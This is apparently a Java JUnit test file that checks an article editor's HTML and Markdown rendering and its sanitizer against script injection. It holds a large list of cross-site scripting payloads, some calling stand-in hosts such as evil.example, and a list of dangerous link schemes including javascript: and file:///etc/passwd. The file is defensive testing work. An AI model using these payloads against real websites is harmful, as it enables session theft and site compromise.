package io.parlour.knowledge.content;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.parlour.kernel.Problem;
import io.parlour.knowledge.content.html.ReadHtml;
import io.parlour.knowledge.content.html.SafeHtml;
import io.parlour.knowledge.content.html.WriteHtml;
import io.parlour.knowledge.content.markdown.MarkdownOptions;
import io.parlour.knowledge.content.markdown.ReadMarkdown;
import io.parlour.knowledge.content.markdown.WriteMarkdown;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;

/// Scripts that someone hides in an article run nowhere (KB-17).
class HostileContentTest {
    private static final Set<String> TAGS = Set.of(
            "p",
            "h2",
            "h3",
            "h4",
            "ul",
            "ol",
            "li",
            "blockquote",
            "pre",
            "code",
            "figure",
            "figcaption",
            "img",
            "div",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "details",
            "summary",
            "hr",
            "br",
            "a",
            "strong",
            "em",
            "s",
            "mark",
            "sub",
            "sup",
            "kbd",
            "span",
            "body");
    private static final List<String> SCRIPTS = List.of(
            "alert(1)",
            "fetch('//evil.example')",
            "document.title='x'",
            "top.location=1",
            "import('//e.example/x.js')",
            "eval(name)");
    private static final List<String> FORMS = List.of(
            "<script>%s</script>",
            "<img src=x onerror=%s>",
            "<svg onload=%s>",
            "<svg><script>%s</script></svg>",
            "\"><script>%s</script>",
            "'><img src=x onerror=%s>",
            "</code></pre><script>%s</script>",
            "<iframe srcdoc='<script>%s</script>'>",
            "<a href=javascript:%s>x</a>",
            "<math><mi//xlink:href=\"data:x,<script>%s</script>\">",
            "<body onload=%s>",
            "<details open ontoggle=%s>",
            "<video><source onerror=%s></video>",
            "<style>@import'data:,*{x:expression(%s)}'</style>",
            "<object data=javascript:%s>",
            "<embed src=javascript:%s>",
            "<form action=javascript:%s><input type=submit>",
            "<base href=javascript:%s//>",
            "<link rel=stylesheet href=javascript:%s>",
            "<meta http-equiv=refresh content=0;url=javascript:%s>",
            "<!--><script>%s</script>",
            "<noscript><p title=\"</noscript><img src=x onerror=%s>\">",
            "<template><script>%s</script></template>",
            "<input autofocus onfocus=%s>",
            "<marquee onstart=%s>",
            "<a href=\"jav&#x09;ascript:%s\">x</a>",
            "<x onclick=%s>x</x>",
            "<table background=javascript:%s>",
            "<div style=\"background:url(javascript:%s)\">",
            "` onmouseover=%s `",
            "\" onmouseover=\"%s",
            "' autofocus onfocus='%s",
            "{{constructor.constructor('%s')()}}",
            "<select><style></select><img src=x onerror=%s>",
            "<xmp><p title=\"</xmp><script>%s</script>\">");
    private static final List<String> LINKS = List.of(
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " javascript:alert(1)",
            "java\tscript:alert(1)",
            "java\nscript:alert(1)",
            "\u0001javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "data:image/svg+xml;base64,PHN2Zz4=",
            "vbscript:msgbox(1)",
            "file:///etc/passwd",
            "blob:https://a/b",
            "//evil.example",
            "/\\evil.example",
            "\\\\evil.example",
            "https:evil.example",
            "javascript&colon;alert(1)",
            "article:x",
            "article:javascript:alert(1)",
            "about:blank",
            "",
            "view-source:javascript:1",
            "https://a.example/\u202e\u0000",
            "ftp://a.example/x",
            "jar:javascript:alert(1)");

    static List<String> payloads() {
        List<String> all = new ArrayList<>();
        FORMS.forEach(form -> SCRIPTS.forEach(script -> all.add(form.formatted(script))));
        return all;
    }

    @Test
    void scriptsInAnyPlaceOfAnArticleStayText() {
        assertThat(payloads()).hasSizeGreaterThanOrEqualTo(200);
        for (String payload : payloads()) {
            Content article = Content.of(Node.of("doc", everywhere(payload)));
            assertHarmless(WriteHtml.write(article, Samples.HTML), payload);
            assertHarmless(
                    WriteHtml.write(
                            ReadMarkdown.content(WriteMarkdown.write(article, MarkdownOptions.INTERNAL)), Samples.HTML),
                    payload);
        }
    }

    @Test
    void scriptsInFilesAreTextOrGone() {
        for (String payload : payloads()) {
            for (String html : List.of(
                    payload,
                    "<p>a " + payload + " b</p>",
                    "<table><tr><td>" + payload,
                    "<img alt=\"" + payload + "\" src=/a.png>")) {
                assertHarmless(WriteHtml.write(ReadHtml.content(html), Samples.HTML), html);
                assertHarmless(WriteHtml.write(ReadMarkdown.content(html), Samples.HTML), html);
            }
            assertHarmless(
                    WriteHtml.write(
                            ReadMarkdown.content(
                                    "```" + payload + "\nx\n```\n\n![" + payload + "](/a.png) [x](" + payload + ")"),
                            Samples.HTML),
                    payload);
        }
    }

    @Test
    void lastCheckStopsWhatAWriterWouldLetThrough() {
        for (String payload : payloads()) {
            assertHarmless(SafeHtml.sanitize("<p>" + payload + "</p><code class=\"" + payload + "\">"), payload);
        }
    }

    @Test
    void linksToProgramsAreRefusedWithTheirPlace() {
        for (String link : LINKS) {
            for (Node node : List.of(
                    Node.of("paragraph", List.of(Node.text("x", List.of(Mark.link(link))))),
                    Node.of("button", Node.attrs("href", link, "label", "x"), List.of()),
                    Node.of("image", Node.attrs("src", link), List.of()))) {
                String json = Schema.write(Node.of("doc", List.of(Node.of("paragraph", List.of()), node)));
                assertThatThrownBy(() -> Content.parse(json))
                        .as(link)
                        .isInstanceOfSatisfying(Problem.class, problem -> {
                            assertThat(problem.status()).isEqualTo(422);
                            assertThat(problem.code()).isEqualTo("article.bad-link");
                            assertThat(problem.errors().getFirst().field()).startsWith("/content/1");
                        });
            }
            assertHarmless(
                    WriteHtml.write(ReadMarkdown.content("[x](<" + link + ">) ![y](<" + link + ">)"), Samples.HTML),
                    link);
            assertHarmless(
                    WriteHtml.write(
                            ReadHtml.content("<a href='" + link + "'>x</a><img src='" + link + "'>"), Samples.HTML),
                    link);
        }
    }

    private static List<Node> everywhere(String payload) {
        List<Node> text = List.of(Node.text(payload, List.of()));
        Node paragraph = Node.of("paragraph", text);
        Node cell = Node.of("tableHeader", List.of(paragraph));
        return List.of(
                paragraph,
                Node.of(
                        "paragraph",
                        List.of(Node.text(payload, List.of(Mark.link("https://example.com/"), Mark.of("code"))))),
                Node.of("heading", Node.attrs("level", 2), text),
                Node.of("codeBlock", text),
                Node.of(
                        "image",
                        Node.attrs("src", "https://example.com/a.png", "alt", payload, "caption", payload),
                        List.of()),
                Node.of(
                        "table",
                        List.of(
                                Node.of("tableRow", List.of(cell)),
                                Node.of("tableRow", List.of(Node.of("tableCell", List.of(paragraph, paragraph)))))),
                Node.of("details", Node.attrs("summary", payload), List.of(paragraph)),
                Node.of("callout", Node.attrs("kind", "tip"), List.of(paragraph)),
                Node.of("button", Node.attrs("href", "/x", "label", payload), List.of()),
                Node.of("bulletList", List.of(Node.of("listItem", List.of(paragraph)))));
    }

    private static void assertHarmless(String html, String payload) {
        for (Element each : Jsoup.parse(html).body().getAllElements()) {
            assertThat(TAGS).as(payload + "\n" + html).contains(each.normalName());
            each.attributes().forEach(attribute -> {
                assertThat(attribute.getKey())
                        .as(payload + "\n" + html)
                        .doesNotStartWith("on")
                        .isNotIn("style", "srcdoc", "xlink:href");
                if (Set.of("href", "src", "srcset").contains(attribute.getKey())) {
                    assertThat(attribute.getValue())
                            .as(payload + "\n" + html)
                            .matches("(?s)(https?://|mailto:|tel:|/|#|[^:]*$).*");
                }
            });
        }
    }
}
